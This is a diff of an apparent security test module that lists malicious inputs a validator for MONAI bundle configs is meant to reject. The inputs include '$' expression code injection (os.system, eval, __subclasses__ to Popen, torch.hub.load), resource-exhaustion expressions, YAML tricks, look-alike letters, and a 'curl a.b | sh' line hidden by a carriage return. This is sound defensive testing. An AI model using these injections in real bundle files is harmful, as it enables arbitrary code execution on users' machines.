@@ -97,83 +97,74 @@ def meta(key: str, value: object, told: str) -> Attack:
     return Attack(META, lambda data: json.dumps({**json.loads(data), key: value}, indent=4).encode(), told)
 
 
-EXPRESSIONS = {
-    "import of os": expression(f"${PWN}", "builtins.__import__ is not on the list: could run any code"),
-    "eval": expression("$eval(\"open('canary', 'w')\")", "builtins.eval is not on the list"),
-    "exec": expression("$exec(\"open('canary', 'w')\")", "builtins.exec is not on the list"),
-    "open": expression("$open('canary', 'w')", "could read or write any file"),
-    "getattr chain": expression("$getattr(getattr(torch, 'os'), 'system')('touch canary')", "could call any function"),
-    "os within torch": expression("$torch.os.system('touch canary')", "torch.os.system is not on the list"),
-    "os within monai": expression("$monai.bundle.scripts.os.system('touch canary')", "could fetch and run"),
-    "optional_import": expression(
-        "$monai.utils.optional_import('os')[0].system('touch canary')", "could import or build code"
-    ),
-    "run_cmd": expression("$monai.utils.misc.run_cmd(['touch', 'canary'])", "run any command"),
-    "subclasses": expression(
+# `$` expressions by what they do under plain MONAI: some run there, others do harm without the canary or do not run.
+RUNNING = {
+    "import of os": (f"${PWN}", "builtins.__import__ is not on the list: could run any code"),
+    "eval": ("$eval(\"open('canary', 'w')\")", "builtins.eval is not on the list"),
+    "exec": ("$exec(\"open('canary', 'w')\")", "builtins.exec is not on the list"),
+    "open": ("$open('canary', 'w')", "could read or write any file"),
+    "getattr chain": ("$getattr(getattr(torch, 'os'), 'system')('touch canary')", "could call any function"),
+    "os within torch": ("$torch.os.system('touch canary')", "torch.os.system is not on the list"),
+    "os within monai": ("$monai.bundle.scripts.os.system('touch canary')", "could fetch and run"),
+    "optional_import": ("$monai.utils.optional_import('os')[0].system('touch canary')", "could import or build code"),
+    "run_cmd": ("$monai.utils.misc.run_cmd(['touch', 'canary'])", "run any command"),
+    "subclasses": (
         "$[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['touch', 'canary']).wait()",
         "could call any function",
     ),
-    "class of a reference": expression(
-        "$@bundle.__class__.__base__.__subclasses__()", "the method .__subclasses__", runs=False
+    "globals of a method": (
+        "$@latents.__init__.__globals__['__builtins__']['open']('canary', 'w')",
+        "could call any function",
     ),
-    "globals of a method": expression(
-        "$@latents.__init__.__globals__['__builtins__']['open']('canary', 'w')", "could call any function"
-    ),
-    "lambda": expression(f"$(lambda: {PWN})()", "could call any function"),
-    "default of a lambda": expression("$(lambda file=open('canary', 'w'): file)", "Lambda in"),
-    "f-string": expression("$f\"{open('canary', 'w')}\"", "JoinedStr"),
-    "comprehension": expression("$[open(name, 'w') for name in ['canary']]", "ListComp"),
-    "scope of a comprehension": expression(
-        "$[torch for torch in [__import__('os')]][0].system('touch canary')", "ListComp"
-    ),
-    "generator": expression("$any(open(name, 'w') for name in ['canary'])", "GeneratorExp"),
-    "walrus": expression("$(torch := open)('canary', 'w')", "could call any function"),
-    "stars": expression("$torch.device(*[open('canary', 'w')])", "* or ** in a call"),
-    "two stars": expression("$torch.device(**{'type': open('canary', 'w')})", "* or ** in a call"),
-    "dictionary of two stars": expression("${**{'a': open('canary', 'w')}}", "** in a dictionary"),
-    "code in an index": expression("$[0][open('canary', 'w').write('')]", "no plain number or name"),
-    "code in a condition": expression("$0 if open('canary', 'w') else 1", "builtins.open"),
-    "code in an allowed call": expression("$torch.device('cpu', open('canary', 'w'))", "builtins.open"),
-    "argument beyond the list": expression(
+    "lambda": (f"$(lambda: {PWN})()", "could call any function"),
+    "default of a lambda": ("$(lambda file=open('canary', 'w'): file)", "Lambda in"),
+    "f-string": ("$f\"{open('canary', 'w')}\"", "JoinedStr"),
+    "comprehension": ("$[open(name, 'w') for name in ['canary']]", "ListComp"),
+    "scope of a comprehension": ("$[torch for torch in [__import__('os')]][0].system('touch canary')", "ListComp"),
+    "generator": ("$any(open(name, 'w') for name in ['canary'])", "GeneratorExp"),
+    "walrus": ("$(torch := open)('canary', 'w')", "could call any function"),
+    "stars": ("$torch.device(*[open('canary', 'w')])", "* or ** in a call"),
+    "two stars": ("$torch.device(**{'type': open('canary', 'w')})", "* or ** in a call"),
+    "dictionary of two stars": ("${**{'a': open('canary', 'w')}}", "** in a dictionary"),
+    "code in an index": ("$[0][open('canary', 'w').write('')]", "no plain number or name"),
+    "code in a condition": ("$0 if open('canary', 'w') else 1", "builtins.open"),
+    "code in an allowed call": ("$torch.device('cpu', open('canary', 'w'))", "builtins.open"),
+    "function of a method call": ("$[open][0]('canary', 'w')", "could call any function"),
+    "look-alike letters": ("$\uff45\uff56\uff41\uff4c(\"open('canary', 'w')\")", "letters beyond ASCII"),
+}
+STILL = {
+    "class of a reference": ("$@bundle.__class__.__base__.__subclasses__()", "the method .__subclasses__"),
+    "argument beyond the list": (
         "$torch.distributed.init_process_group('gloo', init_method='tcp://10.0.0.1:1')",
         "takes backend here",
-        runs=False,
     ),
-    "function of a method call": expression("$[open][0]('canary', 'w')", "could call any function"),
-    "format": expression(
-        "$'{0.__class__.__init__.__globals__}'.format(@latents)", ".format is not on the list", runs=False
-    ),
-    "look-alike letters": expression("$\uff45\uff56\uff41\uff4c(\"open('canary', 'w')\")", "letters beyond ASCII"),
-    "module by reference": expression("$@imports#0.os.system('touch canary')", "@imports::0, a module", runs=False),
-    "module by plain reference": expression("@imports#0", "could reach anything", runs=False),
-    "MONAI's own variable": expression(
-        "$__local_refs['imports::0'].os.system('touch canary')", "read it differently", runs=False
-    ),
-    "reference within quotes": expression("$'@n' + '@n'", "read it differently", runs=False),
-    "relative reference": expression("$@##imports", "a relative id", runs=False),
-    "torch.load": expression(
-        "$torch.load('models/model.pt', weights_only=False)", "unpickle, so run any code", runs=False
-    ),
-    "torch.hub": expression("$torch.hub.load('stranger/code', 'network')", "fetch and run what it likes", runs=False),
-    "C++ extension": expression("$torch.utils.cpp_extension.load('a', ['a.cpp'])", "import or build code", runs=False),
-    "power": expression("$9 ** 9 ** 9 ** 9", "Pow in", runs=False),
-    "shift": expression("$1 << 1099511627776", "LShift in", runs=False),
-    "repeated list": expression("$[0] * 1000000000000", "neither of numbers nor a path", runs=False),
-    "repeated text by reference": expression("$@bundle * @n * 1000000000", "neither of numbers nor a path", runs=False),
-    "padded text": expression("$'%1000000000d' % 1", "neither of numbers nor a path", runs=False),
-    "text in pieces": expression("$'.' + './.' + './a.nii.gz'", "neither of numbers nor a path", runs=False),
-    "text of a call": expression("$start_from('a', None) + 'b'", "neither of numbers nor a path", runs=False),
-    "rounded to a huge number": expression("$round(5, -1000000000000)", "round takes number here", runs=False),
-    "number beyond all bounds": expression(
-        f"${' * '.join(['int(1.0e300)'] * 5)}", "whose size has no bound", runs=False
-    ),
-    "state by plain data": expression(
-        "$@latents.load_state_dict({'network': ''})", "the method .load_state_dict", runs=False
-    ),
+    "format": ("$'{0.__class__.__init__.__globals__}'.format(@latents)", ".format is not on the list"),
+    "module by reference": ("$@imports#0.os.system('touch canary')", "@imports::0, a module"),
+    "module by plain reference": ("@imports#0", "could reach anything"),
+    "MONAI's own variable": ("$__local_refs['imports::0'].os.system('touch canary')", "read it differently"),
+    "reference within quotes": ("$'@n' + '@n'", "read it differently"),
+    "relative reference": ("$@##imports", "a relative id"),
+    "torch.load": ("$torch.load('models/model.pt', weights_only=False)", "unpickle, so run any code"),
+    "torch.hub": ("$torch.hub.load('stranger/code', 'network')", "fetch and run what it likes"),
+    "C++ extension": ("$torch.utils.cpp_extension.load('a', ['a.cpp'])", "import or build code"),
+    "power": ("$9 ** 9 ** 9 ** 9", "Pow in"),
+    "shift": ("$1 << 1099511627776", "LShift in"),
+    "repeated list": ("$[0] * 1000000000000", "neither of numbers nor a path"),
+    "repeated text by reference": ("$@bundle * @n * 1000000000", "neither of numbers nor a path"),
+    "padded text": ("$'%1000000000d' % 1", "neither of numbers nor a path"),
+    "text in pieces": ("$'.' + './.' + './a.nii.gz'", "neither of numbers nor a path"),
+    "text of a call": ("$start_from('a', None) + 'b'", "neither of numbers nor a path"),
+    "rounded to a huge number": ("$round(5, -1000000000000)", "round takes number here"),
+    "number beyond all bounds": (f"${' * '.join(['int(1.0e300)'] * 5)}", "whose size has no bound"),
+    "state by plain data": ("$@latents.load_state_dict({'network': ''})", "the method .load_state_dict"),
+    "call of an attribute": ("$@latents.network('a')", "the method .network"),
+    "argument of a method": ("$@evaluator.run('a')", "run takes nothing here"),
+    "long expression": ("$" + "-" * 5000 + "1", "too long"),
+}
+EXPRESSIONS = {
+    **{name: expression(*one) for name, one in RUNNING.items()},
+    **{name: expression(*one, runs=False) for name, one in STILL.items()},
     "function that is handed on": component("is not on the list", _target_="Compose", transforms="$torch.device"),
-    "call of an attribute": expression("$@latents.network('a')", "the method .network", runs=False),
-    "argument of a method": expression("$@evaluator.run('a')", "run takes nothing here", runs=False),
-    "long expression": expression("$" + "-" * 5000 + "1", "too long", runs=False),
 }
 DOUBLING = "".join(f'd{i}: "$@d{i - 1} + @d{i - 1}"\n' for i in range(1, 40))
 
@@ -267,10 +258,7 @@ PATHS = {
     "mapping that is saved by reference": component("save_dict", _target_="CheckpointSaver", save_dict="@network"),
     "key that climbs": component("leads out of the bundle", _target_="Dataset", data=[{"../../canary": 1}]),
     "root of the data": component(
-        "the argument data_root_dir",
-        _target_="SaveImaged",
-        keys="pred",
-        data_root_dir="$@bundle_root + '/output/a/b'",
+        "the argument data_root_dir", _target_="SaveImaged", keys="pred", data_root_dir="$@bundle_root + '/output/a/b'"
     ),
     "namer of files": component(
         "the argument output_name_formatter",
@@ -291,17 +279,13 @@ PATHS = {
         INFER, written_to("$@a + '/tmp/c.npy'", a="$@b and @bundle_root", b=""), "output "
     ),
     "call that returns a list": component(
-        "pairs ",
-        _target_="tofgan_monai.PairSource",
-        pairs="$monai.data.list_data_collate(['canary.npy'])",
+        "pairs ", _target_="tofgan_monai.PairSource", pairs="$monai.data.list_data_collate(['canary.npy'])"
     ),
     "object that returns texts": component(
         "output_dir ", _target_="SaveImaged", keys="pred", output_dir={"_target_": "Dataset", "data": ["/tmp"]}
     ),
     "object by an overlay": Attack(
-        PAPER,
-        added('a: {_target_: Dataset, data: []}\na#_target_: Compose\ntrain#dataset#pairs: "@a"\n'),
-        "pairs '@a'",
+        PAPER, added('a: {_target_: Dataset, data: []}\na#_target_: Compose\ntrain#dataset#pairs: "@a"\n'), "pairs '@a'"
     ),
     "object by an overlay of the path": Attack(PAPER, added("train#dataset#pairs#_target_: Compose\n"), "pairs "),
     "own weights": component(
@@ -366,13 +350,13 @@ FILES = {
     "YAML anchors": Attack(PAPER, added("a: &a [x, x]\nb: [*a, *a]\n"), "a YAML anchor or alias"),
     "YAML merge key": Attack(PAPER, added("a:\n  <<: {_target_: os.system}\n"), "no string"),
     "YAML key twice": Attack(INFER, added("n: 5\n"), "a second 'n'"),
-    "YAML number for a key": Attack(PAPER, added("other: {1: 2}\n"), "the key '1', no string"),
+    "YAML number for a key": Attack(PAPER, added("other: {1: 2}\n"), "the key '1', which is no string"),
     "YAML second document": Attack(PAPER, added("---\nwidth: 3\n"), "a second document"),
     "YAML nesting": Attack(PAPER, added(f"other: {'[' * 5000}{']' * 5000}\n"), "nested deeper"),
     "YAML date": Attack(PAPER, added("other: 2024-01-01\n"), "no plain value"),
     "line hidden in a comment": Attack(PAPER, added("# \u0085width: 3\n"), "not ASCII"),
     "look-alike key": Attack(PAPER, added("w\u0456dth: 3\n"), "not ASCII"),
-    "too large": Attack(PAPER, added("# " + "x" * 2**17), "bytes where"),
+    "too large": Attack(PAPER, added("# " + "x" * 2**17), "bytes, where"),
     "terminal's escapes": Attack("docs/README.md", added("\x1b[2Jclean\n"), "could rewrite what a terminal shows"),
     "line over another": Attack("docs/README.md", added("curl a.b | sh\rtofgan list   \n"), "what a terminal shows"),
     "card of other weights": Attack(CARD, lambda data: data.replace(b'"sha256": "', b'"sha256": "0'), "is of weights"),
